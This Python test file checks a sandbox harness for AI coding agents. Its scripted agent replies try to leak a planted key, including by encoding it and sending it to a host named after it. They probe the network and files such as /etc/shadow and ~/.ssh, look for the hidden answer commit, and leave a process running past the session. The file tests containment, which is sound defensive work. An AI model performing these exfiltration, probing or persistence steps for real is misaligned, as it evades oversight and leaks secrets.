"""Runs of an agent of a few lines in the real sandbox: what it can reach, what is kept, and whose fault an end is."""

import base64
import json
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from agent_parts import KEY, agent, provider, reply
from assay.agents import record
from assay.agents.outcome import Outcome, decided
from assay.agents.proxy import Connection
from assay.agents.redaction import Redactor
from assay.agents.workspace import Workspace
from assay.contract import task
from small_project import FASTER, assay, edited, environment, files, git, project

DONE = reply(say="done")


@pytest.fixture(autouse=True)
def planted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("THE_KEY", KEY)
    monkeypatch.setenv("TMPDIR", str(tmp_path))  # locks are there: judges of other tests are not waited for


def ran(folder: Path, *replies: str, status: int = 0, **edits: str) -> dict[str, Any]:
    """A run of the small agent, in `run` beside the task; its record."""
    file = folder / "task.toml" if (folder / "task.toml").exists() else project(folder)
    with provider(folder, *replies) as options:
        command = ["agent", "run", file, "--agent", agent(folder, **edits), "--out", folder / "run", "--json"]
        done = assay(*command, *options)
    assert done.returncode == status, done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    jsonschema.validate(found, record.schema())
    assert json.loads((folder / "run" / record.FILE).read_text()) == found
    assert not (folder / "run" / "work").exists()
    return found


UNREACHABLE = {"hosts": '["127.0.0.1:9"]', "set": '{BASE = "http://127.0.0.1:9/v1"}'}
SMALL_DISK = {"home": "{}\ndisk_bytes = 20000000"}


def shell(text: str) -> str:
    return reply(bash=text)


@pytest.mark.sandbox
def test_an_edit_is_the_judges_patch(tmp_path: Path) -> None:
    """Its own patch file, its commit and its history file are not asked; whatever it left running is dead by then."""
    text = f"""cat > pkg/__init__.py <<'END'
{FASTER}END
git commit -qam done && git log --oneline | wc -l
echo 'diff --git a/pkg/other.py b/pkg/other.py' > model_patch.diff
echo mine > a.history
mkdir -p ~/notes && cat ~/notes/given.txt > ~/notes/said.txt
(setsid bash -c 'while true; do echo x >> pkg/late.py; sleep 0.01; done' > /dev/null 2>&1 &)
sleep 0.3"""
    found = ran(tmp_path, shell(text), DONE)
    assert found["outcome"] == "finished" and found["patch"]["files"] == ["pkg/__init__.py", "pkg/late.py"]
    assert found["patch"]["left"] == ["a.history", "model_patch.diff"] and found["left_running"] >= 1
    assert found["used"]["tokens"] > 0 and found["used"]["money"] == 1.0 and found["prompt"]["level"] == "L0"
    patch = (tmp_path / "run/patch.diff").read_text()
    assert patch.count("+x\n") == patch.partition("late.py")[2].count("+x\n") > 5 and "other.py" not in patch
    assert (tmp_path / "run/kept/notes/said.txt").read_text() == "given" and found["kept"] == ["notes/said.txt"]
    command = ["agent", "run", tmp_path / "task.toml", "--agent", tmp_path / "agent.toml", "--out", tmp_path / "run"]
    done = assay(*command, "--set", "host=a.example:1")
    assert done.returncode == 0 and "finished" in done.stdout  # a finished run is not run again
    judged = assay("judge", tmp_path / "task.toml", "--patch", tmp_path / "run/patch.diff", "--store", tmp_path / "s")
    assert judged.stdout.startswith("faster: "), judged.stdout + judged.stderr


@pytest.mark.sandbox
def test_a_planted_key_is_in_no_artefact(tmp_path: Path) -> None:
    host = f"{KEY.lower()}.example"
    text = f"""echo plain $THE_KEY; echo $THE_KEY | base64; echo $THE_KEY | rev; echo $THE_KEY | od -An -tx1 -w64
echo $THE_KEY | sed 's/./&\\n/g'; echo "${{THE_KEY:0:13}}" + "${{THE_KEY:13}}"; env | grep -i key
echo "key = '$THE_KEY'" > pkg/key.py; touch pkg/$THE_KEY.py; echo ab$THE_KEY | base64 > pkg/more.py
mkdir -p ~/notes; echo $THE_KEY > ~/notes/said.txt; git add -A; git commit -qm $THE_KEY
python3 -c "import urllib.request as u; u.urlopen('http://{host}/')" 2>&1 | tail -1"""
    found = ran(tmp_path, shell(text), DONE)
    counts = found["redacted"]
    assert counts["output"] >= 6 and counts["patch"] == 3 and counts["network"] == 1 and counts["kept"] == 1
    assert found["patch"]["refused"] == ["a file name held a key"]
    assert found["patch"]["files"] == ["pkg/key.py", "pkg/more.py"]
    looked = Redactor([KEY])
    for path in record.paths(tmp_path / "run"):
        assert looked.clean(path.read_bytes())[1] == 0 and looked.clean(str(path).encode())[1] == 0, path
        data = path.read_bytes()
        for form in (KEY, KEY[::-1], KEY.encode().hex(), base64.b64encode(KEY.encode()).decode()[:-4], KEY[:12]):
            assert form.encode() not in data, path


@pytest.mark.sandbox
def test_the_only_way_out(tmp_path: Path) -> None:
    """Without the proxy there is nothing; with it the provider alone; and the task's secrets are not there at all."""
    reference = edited(project(tmp_path), 'base = "HEAD"', 'base = "HEAD~1"\nreference = "HEAD"')
    files(tmp_path / "repo", {"pkg/__init__.py": FASTER})
    git(tmp_path / "repo", "commit", "--quiet", "-am", "the answer")
    answer = git(tmp_path / "repo", "rev-parse", "HEAD")
    text = f"""python3 - <<'END'
import os, socket, urllib.error, urllib.request
for host in ("127.0.0.1", "::1", "1.1.1.1"):
    try: socket.create_connection((host, 22), 1); print("REACHED", host)
    except OSError: pass
for address in ("http://other.example/", "https://other.example/", "http://127.0.0.1:22/"):
    try: urllib.request.urlopen(address, timeout=5); print("REACHED", address)
    except urllib.error.URLError as problem: print("refused", address, problem)
for path in ({str(reference)!r}, {str(tmp_path / "repo")!r}, "/root/.ssh", "/etc/shadow"):
    if os.path.exists(path): print("SEEN", path)
for name in os.listdir("/proc"):
    if name.isdigit() and "assay.agents." + "proxy" in open(f"/proc/{{name}}/cmdline").read(): print("SEEN", name)
print("passwd", open("/etc/passwd").read().count("\\n"))
END
git cat-file -e {answer} 2>/dev/null && echo SEEN answer; git remote; git reflog; git log --all --oneline | wc -l
find / -name strategies.py -not -path '*/site-packages/*' -not -path '/usr/*' 2>/dev/null | grep -v hypothesis
echo x > /assay/base/pkg/__init__.py && echo WROTE base; echo x > /assay/measure/squares && echo WROTE tool; true"""
    found = ran(tmp_path, shell(text), DONE)
    output = (tmp_path / "run/output.log").read_text()
    assert "REACHED" not in output and "SEEN" not in output and "WROTE" not in output, output
    assert output.count("refused http") == 3 and "passwd 2" in output
    assert "strategies.py" not in output and output.splitlines().count("1") == 1
    assert found["network"]["refused"] == ["other.example:80", "other.example:443", "127.0.0.1:22"]


@pytest.mark.sandbox
def test_the_key_stands_on_no_command_line(tmp_path: Path) -> None:
    """All processes of this machine are looked at while the agent runs, from outside."""
    project(tmp_path)
    with provider(tmp_path, shell("touch here; sleep 2"), DONE) as options:
        command = [sys.executable, "-m", "assay", "agent", "run", str(tmp_path / "task.toml"), "--agent"]
        command += [str(agent(tmp_path)), "--out", str(tmp_path / "run"), *options]
        with subprocess.Popen(command, env=environment(), stdout=subprocess.DEVNULL) as judge:
            stop = time.monotonic() + 20
            while not (tmp_path / "run/work/tree/here").exists():
                assert time.monotonic() < stop
                time.sleep(0.02)
            lines = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()]
            assert any(b"bridge.py" in line for line in lines) and not any(KEY.encode() in line for line in lines)
            assert judge.wait(20) == 0


@pytest.mark.sandbox
@pytest.mark.parametrize(
    ("replies", "outcome", "status", "edits"),
    [
        ((reply(status=429),), "infra.provider", 3, {}),
        ((reply(stall_s=60.0),), "infra.provider", 3, {"seconds": "1.5"}),
        ((shell("echo x >> pkg/__init__.py"), reply(status=503)), "infra.provider", 3, {}),
        ((shell("echo x >> pkg/__init__.py; sleep 60"),), "budget.time", 0, {"seconds": "1.5"}),
        ((shell("sleep 2.5"),), "budget.tokens", 0, {"seconds": "30.0\ntokens = 3"}),
        ((shell("sleep 2.5"),), "budget.money", 0, {"seconds": "30.0\nmoney = 0.4"}),
        ((shell("kill -9 $PPID"),), "failed", 0, {}),
        ((DONE,), "infra.network", 3, UNREACHABLE),
        ((DONE,), "infra.command", 3, {"argv": '["nothing-of-this-name"]'}),
        (
            (shell("dd if=/dev/zero of=x bs=1M count=40; sleep 5"),),
            "budget.limits",
            0,
            {"home": "{}\ndisk_bytes = 20000000"},
        ),
    ],
)
def test_whose_fault_an_end_is(
    replies: tuple[str, ...], outcome: str, status: int, edits: dict[str, str], tmp_path: Path
) -> None:
    found = ran(tmp_path, *replies, status=status, **edits)
    assert found["outcome"] == outcome, found["words"]
    changed = ["pkg/__init__.py"] if any(">> pkg" in one for one in replies) else []
    assert [name for name in found["patch"]["files"] if name != "x"] == changed


def test_decisions() -> None:
    """Each rule alone; an end by itself with an answer of the provider at last is never the provider's fault."""
    good, bad = Connection("h", 1, "plain", True, 1.0, status=200), Connection("h", 1, "plain", True, 2.0, status=429)
    refused = Connection("other", 1, "connect", False, 3.0, words="not among the template's hosts")
    silent = Connection("h", 1, "connect", True, 1.0, silent_s=70.0, seconds=70.0)

    def of(status: int, cut: Outcome | None = None, *connections: Connection, **more: Any) -> str:
        options = {"output": b"", "errors": ["RateLimit"], "changed": True, "seconds": 100.0, **more}
        return decided(status, cut, "", connections=connections, **options)[0]

    assert of(0, None, bad, good) == "infra.provider" and of(0, None, good, refused) == "finished"
    late = Connection("h", 1, "plain", True, 3.0, status=200)
    assert of(0, None, good, bad, late) == "finished" and of(1, None, late) == "failed"
    assert of(1, None, good, output=b"RateLimit") == "infra.provider"
    assert of(0, None, good, output=b"RateLimit") == "finished"
    assert of(0, None, good, output=b"RateLimit", changed=False) == "infra.provider"
    assert of(1, None, good, output=b"RateLimit" + b"x" * 10000) == "failed"
    assert of(-1, Outcome.TIME, silent) == "infra.provider" and of(-1, Outcome.TIME, good) == "budget.time"
    assert of(-1, Outcome.TOKENS, silent) == "budget.tokens" and of(127, None, good) == "failed"


@pytest.mark.full
@pytest.mark.sandbox
def test_killed_in_the_middle_it_begins_anew(tmp_path: Path) -> None:
    project(tmp_path)
    with provider(tmp_path, shell("touch here; sleep 2"), DONE) as options:
        command = [sys.executable, "-m", "assay", "agent", "run", str(tmp_path / "task.toml"), "--agent"]
        command += [str(agent(tmp_path)), "--out", str(tmp_path / "run"), *options]
        with subprocess.Popen(command, env=environment(), stdout=subprocess.DEVNULL) as judge:
            stop = time.monotonic() + 20
            while not (tmp_path / "run/work/tree/here").exists():
                assert time.monotonic() < stop
                time.sleep(0.02)
            judge.send_signal(signal.SIGKILL)
        time.sleep(0.5)
        left = [
            one
            for one in Path("/proc").glob("[0-9]*/cmdline")
            if one.exists() and str(tmp_path / "run") in one.read_text()
        ]
        assert not left
    assert not (tmp_path / "run/run.json").exists()
    assert ran(tmp_path, DONE)["outcome"] == "finished" and not (tmp_path / "run/work").exists()


def test_a_missing_key_and_a_missing_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file, one = project(tmp_path), agent(tmp_path)
    command = ["agent", "run", file, "--agent", one, "--out", tmp_path / "run", "--set", "host=a.example:1"]
    monkeypatch.delenv("THE_KEY")
    done = assay(*command)
    assert done.returncode == 2 and "THE_KEY: expected the agent's key in the environment" in done.stderr
    one.write_text(one.read_text().replace(str(tmp_path / "agent"), "/nowhere"))
    monkeypatch.setenv("THE_KEY", KEY)
    done = assay(*command)
    assert done.returncode == 2 and "/nowhere, which is not there; is it installed?" in done.stderr
    assert not (tmp_path / "run").exists()


def test_a_scrubbed_workspace(tmp_path: Path) -> None:
    file = project(tmp_path)
    files(tmp_path / "repo", {".gitignore": "ignored.py\n", "ignored.py": "x = 1\n", "pkg/__init__.py": FASTER})
    git(tmp_path / "repo", "add", "--all", "--force")
    git(tmp_path / "repo", "commit", "--quiet", "-m", "second")
    git(tmp_path / "repo", "tag", "v1")
    read = task.read(file)
    one, other = Workspace(read, tmp_path / "1"), Workspace(read, tmp_path / "2")
    for place in (one.tree, other.tree):
        assert git(place, "rev-list", "--all", "--count") == "1" and git(place, "status", "--short") == ""
        assert not git(place, "remote") and not git(place, "tag") and not git(place, "reflog")
        assert git(place, "cat-file", "--batch-check", "--batch-all-objects").count("commit") == 1
        assert not (place / ".git/objects/info/alternates").exists() and "ignored.py" in git(place, "ls-files")
    assert git(one.tree, "rev-parse", "HEAD") == git(other.tree, "rev-parse", "HEAD")
    assert one.changed((), Redactor([])).patch == b""
